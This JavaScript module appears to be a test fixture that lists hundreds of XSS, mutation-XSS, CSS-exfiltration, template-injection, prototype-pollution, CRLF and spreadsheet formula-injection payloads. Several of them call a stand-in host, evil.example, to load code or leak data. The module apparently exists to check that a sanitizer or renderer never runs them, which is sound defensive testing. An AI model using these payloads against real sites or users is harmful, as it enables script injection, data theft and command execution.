// Texts that try to run as a script, to become markup, to leave the page or to be read as something else, by the way
// they try it. `ran` is the function that must never be called, and nothing may ask anything of `evil.example`.
// A mark of the form "~7~" is put behind each where the whole text must be found again, so none relies on its end.

const AWAY = "https://evil.example";
const LONG = 6_000;

/** @type {Readonly<Record<string, readonly string[]>>} */
export const PAYLOADS = {
  element: [
    "<script>ran()</script>", "<script src=" + AWAY + "/a.js></script>", "<script type=module>import '" + AWAY + "/b.js'</script>",
    "<ScRiPt>ran()</sCrIpT>", "<script/x>ran()</script\t>", "<script>ran()//", "<<script>ran()//<</script>",
    "<img src=x onerror=ran()>", "<IMG SRC=x ONERROR=ran()//", "<img/src='x'/onerror='ran()'>", "<img src=" + AWAY + "/pixel.png>",
    "<img srcset='" + AWAY + "/p.png 2x'>", "<picture><source srcset=" + AWAY + "/q.png><img></picture>",
    "<iframe src=javascript:parent.ran()></iframe>", "<iframe src=" + AWAY + "></iframe>", "<embed src=" + AWAY + "/e>",
    "<object data=" + AWAY + "/o></object>", "<object data='data:text/html,<script>parent.ran()</script>'></object>",
    "<link rel=stylesheet href=" + AWAY + "/s.css>", "<link rel=preload as=script href=" + AWAY + "/l.js>", "<link rel=dns-prefetch href=" + AWAY + ">",
    "<base href=" + AWAY + "/>", "<meta http-equiv=refresh content='0;url=" + AWAY + "'>",
    "<form action=" + AWAY + "><button>Unlock</button></form>", "<form id=app><input name=children></form>",
    "<video><source onerror=ran()></video>", "<audio src=x onerror=ran()></audio>", "<video poster=" + AWAY + "/v.png></video>",
    "<dialog open>Passphrase?</dialog>", "<portal src=" + AWAY + "></portal>", "<frameset onload=ran()>", "<bgsound src=" + AWAY + "/b.wav>",
    "<template shadowrootmode=open><img src=x onerror=ran()></template>", "<custom-element onclick=ran()>x</custom-element>",
  ],
  handler: [
    "<body onload=ran()>", "<details open ontoggle=ran()>", "<input autofocus onfocus=ran()>", "<select autofocus onfocus=ran()></select>",
    "<textarea autofocus onfocus=ran()></textarea>", "<marquee onstart=ran()>x</marquee>", "<div onpointerenter=ran() style=position:fixed;inset:0>x</div>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=ran()>x</b>", "<div contenteditable autofocus onfocus=ran() tabindex=1>x</div>",
    "<img src=x onerror\n=\nran()>", "<img src=x onerror=&#114;an()>", "<img src=x onerror=window['r'+'an']()>", "<img src=x onerror=eval(atob('cmFuKCk='))>",
    "<img src=x onerror=\"setTimeout('ran()')\">", "<a onmouseover=ran() href=#>x</a>", "<div popover id=p onbeforetoggle=ran()></div><button popovertarget=p>x</button>",
  ],
  attribute: [
    "\" onfocus=ran() autofocus x=\"", "' onfocus=ran() autofocus x='", "\"><script>ran()</script>", "'><img src=x onerror=ran()>",
    "\" style=\"background:url(" + AWAY + "/c.png)\" x=\"", "x onpointerover=ran() y=", "`onerror=ran() x=`", "\"/><svg/onload=ran()>",
    "\" srcdoc=\"<script>parent.ran()</script>\" x=\"", "\" formaction=\"javascript:ran()\" x=\"", "--><img src=x onerror=ran()><!--", "]]><img src=x onerror=ran()>",
  ],
  address: [
    "javascript:ran()//", "JaVaScRiPt:ran()//", "java\tscript:ran()//", "java\nscript:ran()//", "\u0001javascript:ran()//", "  javascript:ran()//",
    "javascript&colon;ran()//", "javascript://%0aran()//", "data:text/html,<script>opener.ran()</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
    "vbscript:ran", "blob:" + AWAY + "/1", "file:///etc/passwd", "//evil.example/x", AWAY + "/?a=", "tauri://localhost/index.html", "ipc://localhost/lock",
    "feed:javascript:ran()//", "view-source:javascript:ran()//", "intent://x#Intent;scheme=http;end",
  ],
  foreign: [
    "<svg onload=ran()>", "<svg><script>ran()</script></svg>", "<svg><script href=" + AWAY + "/s.js /></svg>", "<svg><a href=javascript:ran()><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>", "<svg><set attributeName=onload to=ran()>", "<svg><foreignObject><iframe srcdoc='<script>parent.ran()</script>'></iframe></foreignObject></svg>",
    "<svg><image href=" + AWAY + "/i.png></svg>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>ran()</script></svg>#x'/></svg>",
    "<svg><style>@import url(" + AWAY + "/t.css)</style></svg>", "<svg><feImage href=" + AWAY + "/f.png /></svg>", "<svg><handler type=text/ecmascript>ran()</handler></svg>",
    "<math href=javascript:ran()>x</math>", "<math><mtext><img src=x onerror=ran()></mtext></math>", "<math><maction actiontype=statusline#" + AWAY + ">x</maction></math>",
  ],
  mutation: [
    "<noscript><p title=\"</noscript><img src=x onerror=ran()>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=ran()&gt;\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=ran()>\">", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>",
    "<listing>&lt;img src=x onerror=ran()&gt;</listing>", "<xmp><p title=\"</xmp><img src=x onerror=ran()>\">", "<title><a title=\"</title><img src=x onerror=ran()>\">",
    "<textarea></textarea><img src=x onerror=ran()>", "</style></title></textarea></script><img src=x onerror=ran()>", "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=ran()>\">",
    "<!--><img src=x onerror=ran()>-->", "<![CDATA[><img src=x onerror=ran()>]]>", "<?xml-stylesheet href=" + AWAY + "/x.css?>", "<plaintext>", "<table><td><table><img src=x onerror=ran()>",
  ],
  document: [
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>", "<iframe srcdoc=&lt;img&#32;src=x&#32;onerror=parent.ran()&gt;></iframe>",
    "<iframe sandbox=allow-scripts srcdoc='<img src=" + AWAY + "/z.png>'></iframe>", "<iframe name=ran></iframe>",
  ],
  style: [
    "<style>@import '" + AWAY + "/i.css'</style>", "<style>*{background:url(" + AWAY + "/w.png)}</style>", "<p style=\"background:url(" + AWAY + "/y.png)\">x</p>",
    "}</style><style>@import url(" + AWAY + "/j.css);", "x;background:url(" + AWAY + "/k.png);", "<style>input[value^=a]{background:url(" + AWAY + "/a)}</style>", "expression(ran())",
    "\\3c script\\3e ran()", "@font-face{font-family:x;src:url(" + AWAY + "/f.woff)}", "--x:url(" + AWAY + ")",
  ],
  template: [
    "${ran()}", "`${ran()}`", "{{constructor.constructor('ran()')()}}", "{bed}{n}{name}", "<%= ran() %>", "#{ran()}", "[[${ran()}]]", "$& $1 $` $'", "%s %n %d", "{{=ran()}}", "@(ran())",
  ],
  literal: [
    "\";ran();//", "';ran();//", "\\';ran();//", "\\u003cscript\\u003eran()\\u003c/script\\u003e", "\\x3cscript\\x3eran()", "\u2028ran()\u2029//", "*/ran()/*", "\n//# sourceMappingURL=" + AWAY + "/m", "null", "undefined", "NaN", "[object Object]", "true",
  ],
  encoded: [
    "&lt;script&gt;ran()&lt;/script&gt;", "&#60;script&#62;ran()&#60;/script&#62;", "&#x3c;img src=x onerror=ran()&#x3e;", "%3Cscript%3Eran()%3C/script%3E", "%253Cscript%253Eran()%253C/script%253E",
    "+ADw-script+AD4-ran()+ADw-/script+AD4-", "&amp;lt;script&amp;gt;", "&NewLine;&Tab;&colon;", "\u00bcscript\u00beran()\u00bc/script\u00be", "&#0;&#xD800;&#x110000;",
  ],
  unicode: [
    "\u202eevil\u202c", "\u2066\u202edesrever\u2069\u2069", "\u2069\u2069\u202dBed 1", "\u200f\u061c\u200e", "\uff1cscript\uff1eran()\uff1c/script\uff1e", "\u02c2img src=x onerror=ran()\u02c3", "a\u200bb\u200cc\u200dd\ufefff",
    "\u0430dministrator", "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319A\u035c\u0360L\u0321G\u0322O", "\ud83d\ude00\ud83d", "\udc00lone", "\u0627\u0644\u0633\u0631\u064a\u0631 7", "\ufdfd\u{12031}", "\u0085\u00a0\u3000x", "\u0131\u0130\u017f\u212a",
  ],
  control: [
    "a\u0000b<script>ran()</script>", "<scr\u0000ipt>ran()</scr\u0000ipt>", "\u0000", "\u0007\u0008\u001b[31mred\u001b[0m", "\u001b]0;title\u0007", "a\r\nSet-Cookie: x=1\r\n\r\n<script>ran()</script>", "\t\v\f x", "\u007f\u009b31m",
  ],
  name: ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__defineGetter__", "valueOf", "then", "{\"__proto__\":{\"polluted\":1}}", "constructor[prototype][polluted]=1"],
  sheet: ["=HYPERLINK(\"" + AWAY + "\")", "+cmd|'/C calc'!A0", "-1+1|cmd", "@SUM(1+1)*cmd", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", ";=1+1", "\",=1+1,\"", "{\"a\":1}", "]}'"],
  long: ["A".repeat(LONG), "<b>".repeat(LONG / 4), "\u202e".repeat(LONG / 10), "a ".repeat(LONG / 2), "&".repeat(LONG / 4), "\u0e33".repeat(LONG / 10), "(".repeat(LONG / 10) + ")".repeat(LONG / 10), "Z\u0351\u036b\u0343".repeat(LONG / 20)],
};

/** Charts that try it: put inside the root of every chart that the desk has drawn. */
export const IN_CHARTS = [
  "<script>ran()</script>", "<script href='" + AWAY + "/s.js'/>", "<image href='" + AWAY + "/i.png' onerror='ran()'/>", "<a href='javascript:ran()'><path d='M0 0h9' onclick='ran()'/></a>",
  "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src='x' onerror='ran()'/></body></foreignObject>", "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>ran()</h:script>",
  "<use href='data:image/svg+xml,&lt;svg/&gt;#x'/>", "<animate attributeName='href' values='javascript:ran()' onbegin='ran()'/>", "<set attributeName='onload' to='ran()'/>", "<style>@import '" + AWAY + "/t.css';</style>",
  "<path d='M0 0' fill='url(" + AWAY + "/f.svg#a)' onload='ran()' style='background:url(" + AWAY + ")'/>", "<rect width='9' height='9' stroke='u&#114;l(" + AWAY + ")' filter='url(" + AWAY + "#f)'/>",
  "<g onfocus='ran()' tabindex='0' class='x&quot; onclick=&quot;ran()'><g id='app'/></g>", "<svg onload='ran()'><svg><title>t</title><desc>d</desc></svg></svg>", "<?xml-stylesheet href='" + AWAY + "/x.css'?>",
  "<![CDATA[<script>ran()</script>]]>", "<!-- --><text>ran()</text>", "<mpath xlink:href='" + AWAY + "' xmlns:xlink='http://www.w3.org/1999/xlink'/>", "<g>".repeat(2000) + "</g>".repeat(2000), "<script>ran()", "&undefined;",
];

/** Every text once, with its way: "element", "handler" and so on. */
export const ALL = Object.entries(PAYLOADS).flatMap(([way, texts]) => texts.map((text) => ({ way, text })));
